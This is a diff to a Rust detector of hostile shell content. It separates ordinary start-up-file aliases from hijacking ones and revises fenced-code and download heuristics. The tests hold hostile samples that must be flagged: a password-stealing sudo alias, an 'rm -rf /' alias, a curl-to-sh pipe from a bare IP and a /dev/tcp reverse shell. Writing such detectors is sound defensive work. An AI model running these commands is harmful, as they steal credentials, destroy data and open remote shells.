@@ -2356,6 +2356,15 @@ fn check_command_at(
     }
     if norm == "alias" && ctx != Ctx::Span {
         if let Some(end) = alias_definition(b, w.end, seg_end) {
+            // `alias ll='ls -alF'` on a line of its own: a shell's start-up
+            // file, which defines shortcuts. A definition is hostile when it
+            // takes over a command's name or its body does harm.
+            if matches!(ctx, Ctx::Start | Ctx::Weak)
+                && rc_shortcut(b, w.end, seg_end)
+                && rc_file(b, i, seg_end)
+            {
+                return false;
+            }
             push(hits, text, R_CHAIN, sep_start, end);
             return true;
         }
@@ -3032,6 +3041,81 @@ fn assembled_command(
     false
 }
 
+/// Whether the `alias` definition after `from` is a start-up file's
+/// shortcut: a new name (or a command's own name for itself with options,
+/// `alias grep='grep --color=auto'`) for a quoted command line that names
+/// no sensitive file, URL or address and chains nothing.
+fn rc_shortcut(b: &[u8], from: usize, end: usize) -> bool {
+    let line_end = memchr::memchr2(b'\n', b'\r', &b[from..end]).map_or(end, |o| from + o);
+    let Ok(def) = std::str::from_utf8(&b[from..line_end]) else {
+        return false;
+    };
+    let Some((name, value)) = def.trim().split_once('=') else {
+        return false;
+    };
+    if name.contains(['-', '+', ' ']) {
+        return false;
+    }
+    let v = value.trim();
+    let Some(body) = v
+        .strip_prefix('\'')
+        .and_then(|x| x.strip_suffix('\''))
+        .or_else(|| v.strip_prefix('"').and_then(|x| x.strip_suffix('"')))
+    else {
+        return false;
+    };
+    let lower = body.to_ascii_lowercase();
+    let first = lower.split_ascii_whitespace().next().unwrap_or("");
+    // `ll` and the like are shortcuts everyone defines; `sudo`, `ssh` or
+    // `ls` bound to something else are taken over.
+    let takes_over =
+        name != first && lookup(&name.to_ascii_lowercase()).is_some_and(|c| c.kind != Kind::Weak);
+    !takes_over
+        && !first.is_empty()
+        && !SENSITIVE_AC.is_match(&lower)
+        && !lower.contains("://")
+        && !lower.contains(['`', '$', '>', '<'])
+        && !lower
+            .split_ascii_whitespace()
+            .any(|t| looks_like_ip(t) || matches!(t, "-rf" | "-fr"))
+}
+
+/// Whether the `=` at `eq` gives an `alias` its value: the definition is
+/// judged whole where `alias` starts its line.
+fn alias_value(b: &[u8], seg_start: usize, eq: usize) -> bool {
+    let lo = seg_start.max(eq.saturating_sub(64));
+    let line = memchr::memrchr(b'\n', &b[lo..eq]).map_or(lo, |o| lo + o + 1);
+    b[line..eq].trim_ascii_start().starts_with(b"alias ")
+}
+
+/// Whether the value holding `at` reads as a shell's start-up file: at
+/// least two of its lines open with a start-up directive (`alias`,
+/// `export`, `source`, `setopt`, `bindkey`, `shopt`, `umask`).
+fn rc_file(b: &[u8], at: usize, seg_end: usize) -> bool {
+    let lo = at.saturating_sub(4096);
+    let start = memchr::memrchr(0, &b[lo..at]).map_or(lo, |o| lo + o + 1);
+    let hi = seg_end.min(at + 4096);
+    b[start..hi]
+        .split(|&c| c == b'\n')
+        .filter(|l| {
+            let l = l.trim_ascii_start();
+            [
+                &b"alias "[..],
+                b"export ",
+                b"source ",
+                b"setopt ",
+                b"bindkey ",
+                b"shopt ",
+                b"umask ",
+            ]
+            .iter()
+            .any(|w| l.starts_with(w))
+        })
+        .take(2)
+        .count()
+        == 2
+}
+
 /// `alias name=value` with optional flags: a shell builtin definition.
 /// Returns the end of the definition.
 fn alias_definition(b: &[u8], from: usize, end: usize) -> Option<usize> {
@@ -3511,7 +3595,11 @@ fn scan_segment(
                 // in prose does: only hostile content counts there.
                 // So does an indented line after a line of prose ("Use
                 // this command:\n\tgit ls-files ...").
-                let ctx = if in_fence || indented_after_prose(b, seg_start, i, j, seg_end) {
+                // A fence's lines are documentation as a code span
+                // explained in a sentence is.
+                let ctx = if in_fence {
+                    Ctx::DocSpan
+                } else if indented_after_prose(b, seg_start, i, j, seg_end) {
                     Ctx::Span
                 } else {
                     Ctx::Weak
@@ -3610,6 +3698,7 @@ fn scan_segment(
                     && b[i + 1] != b'='
                     && !tag_attribute(b, seg_start, i, seg_end)
                     && !build_option(b, seg_start, i)
+                    && !alias_value(b, seg_start, i)
                 {
                     check_command(text, i + 1, i + 1, seg_end, Ctx::Start, hits);
                 }
@@ -3891,28 +3980,37 @@ fn joins_clauses(b: &[u8], seg_start: usize, p: usize, seg_end: usize) -> bool {
 
 /// Whether the only strong evidence in a command's arguments is a file
 /// under a system directory that every guide names (`/etc/os-release`,
-/// `~/.ssh/config`, `/usr/bin/env`): no shell path, no key or password
-/// file, no URL or address, no staging directory such as `/tmp/`.
+/// `~/.ssh/config`, `/usr/bin/env`) or a URL to download: no shell path,
+/// no key or password file, no bare address or host, no staging
+/// directory such as `/tmp/`, no inner shell.
 fn shown_files_only(args: &str) -> bool {
     const BROAD: &[&str] = &["/etc/", "/bin/", "/usr/bin/", ".ssh", "/proc/"];
     let lower = args.to_ascii_lowercase();
     let mut any = false;
-    for m in SENSITIVE_AC.find_overlapping_iter(&lower) {
-        let pat = SENSITIVE
-            .iter()
-            .chain(INNER_SHELL)
-            .nth(m.pattern().as_usize())
-            .copied()
-            .unwrap_or("");
-        if !BROAD.contains(&pat) {
+    for t in lower.split_ascii_whitespace() {
+        // A URL is a download shown (`/bin/` in its path is no file here).
+        if t.contains("://") {
+            any = true;
+            continue;
+        }
+        if looks_like_ip(t) || looks_like_host(t) {
             return false;
         }
-        any = true;
+        for m in SENSITIVE_AC.find_overlapping_iter(t) {
+            let pat = SENSITIVE
+                .iter()
+                .chain(INNER_SHELL)
+                .nth(m.pattern().as_usize())
+                .copied()
+                .unwrap_or("");
+            if !BROAD.contains(&pat) {
+                return false;
+            }
+            any = true;
+        }
     }
-    any && !lower.contains("://")
-        && !lower
-            .split_ascii_whitespace()
-            .any(|t| looks_like_ip(t) || looks_like_host(t))
+    // An inner shell spans blanks (`sh -c `): looked for in the whole.
+    any && !INNER_SHELL.iter().any(|x| lower.contains(x))
 }
 
 /// Code spans that a documentation sentence goes on after (see
@@ -6030,6 +6128,30 @@ mod tests {
 
     fn flagged(text: &str) -> bool {
         !rules(text).is_empty()
+    }
+
+    #[test]
+    fn start_up_files_and_fenced_commands() {
+        for t in [
+            "alias la='ls -A'\nalias gd='git diff'\nexport PAGER=less",
+            "# shortcuts\nalias grep='grep --color=auto'\nalias k='kubectl'",
+            "```bash\nsudo install -m 644 site.conf /etc/nginx/conf.d/site.conf\n```",
+            "```\ngit clone https://git.example.org/team/app.git\n```",
+        ] {
+            assert!(!flagged(t), "{t:?}: {:?}", rules(t));
+        }
+        for t in [
+            "alias sudo='read -s p; echo $p > /tmp/.p; sudo'\nalias ll='ls -l'",
+            "alias ssh='/tmp/.x/ssh'\nalias ll='ls -l'",
+            "alias ls='rm -rf /'\nalias ll='ls -l'",
+            "alias x='curl http://203.0.113.4/a | sh'\nexport A=1",
+            "q=1; alias ls=whoami",
+            "alias ..='cd ..'",
+            "```sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n```",
+            "```\ncurl https://203.0.113.5/x -o /tmp/x\n```",
+        ] {
+            assert!(flagged(t), "missed {t:?}");
+        }
     }
 
     #[test]
